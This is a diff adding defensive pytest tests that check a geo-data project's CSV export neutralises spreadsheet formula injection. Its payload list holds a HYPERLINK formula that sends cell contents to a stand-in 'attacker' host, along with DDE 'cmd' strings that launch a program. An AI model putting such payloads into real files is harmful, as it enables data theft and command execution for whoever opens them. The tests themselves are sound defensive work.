@@ -64,6 +64,72 @@ def seeded(tmp_path_factory):
     return store
 
 
+# ------------------------------------------------------------------ f1 formula injection
+
+PAYLOADS = ['=HYPERLINK("http://attacker/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "\n@x",
+            "\uff1d1+1"]
+FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def dangerous(cell: str) -> bool:
+    """Whether a spreadsheet would run the cell as a formula (numbers are fine)."""
+    try:
+        float(cell)
+        return False
+    except ValueError:
+        pass
+    return cell.startswith(FORMULA) or cell.lstrip(" \n\r\t").startswith(FORMULA)
+
+
+def csv_cells(data: bytes) -> list[str]:
+    import csv
+    import io
+
+    return [c for row in csv.reader(io.StringIO(data.decode("utf-8"), newline=""))
+            for c in row]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_f1_every_text_cell_of_the_acled_csv_is_neutralised(payload):
+    from geo.export import acled_csv_bytes
+    from geo.schema import CLAIM_DTYPES
+    from geo.synthetic import synthetic_claims
+
+    claims = synthetic_claims(6, seed=3)
+    for col, dtype in CLAIM_DTYPES.items():
+        if dtype == "string" and col not in ("claim_type", "published", "event_date",
+                                             "date_precision", "country_code", "unit"):
+            claims[col] = payload  # every free-text property of a claim
+    cells = csv_cells(acled_csv_bytes(claims, timestamp=0))
+    assert not [c for c in cells if dangerous(c)]
+    kept = payload.replace("\r", "\n")  # line ends as LF
+    assert any(c.startswith("'") and kept in c for c in cells)  # kept, as text
+
+
+def test_f1_negative_numbers_stay_numbers():
+    from geo.export import acled_csv_bytes
+    from geo.synthetic import synthetic_claims
+
+    claims = synthetic_claims(3, seed=1)
+    claims["longitude"] = -73.5
+    cells = csv_cells(acled_csv_bytes(claims, timestamp=0))
+    assert "-73.5" in cells and "'-73.5" not in cells
+
+
+def test_f1_hostile_article_through_ingest_and_export(capsys, tmp_path):
+    art = {"id": "x1", "published": "2024-08-15",
+           "text": "=1+1 " + CLEAN[0] + " -5 @cmd " + CLEAN[1],
+           "title": "+cmd|' /C calc'!A0", "source": PAYLOADS[0], "url": "@http://x"}
+    store, out = tmp_path / "s.gpkg", tmp_path / "x.csv"
+    assert run(capsys, "ingest", jsonl(tmp_path / "a.jsonl", art), "--store", store,
+               "--no-progress")[0] == 0
+    assert run(capsys, "export", "--store", store, "--out", out)[0] == 0
+    cells = csv_cells(out.read_bytes())
+    assert len(cells) > 40 and not [c for c in cells if dangerous(c)]
+    assert "'" + PAYLOADS[0] in cells  # the source, neutralised, still readable
+
+
 # ------------------------------------------------------------------ f2 full disk
 
 EXPORTS = ["geojson", "csv", "kml", "gpkg"]
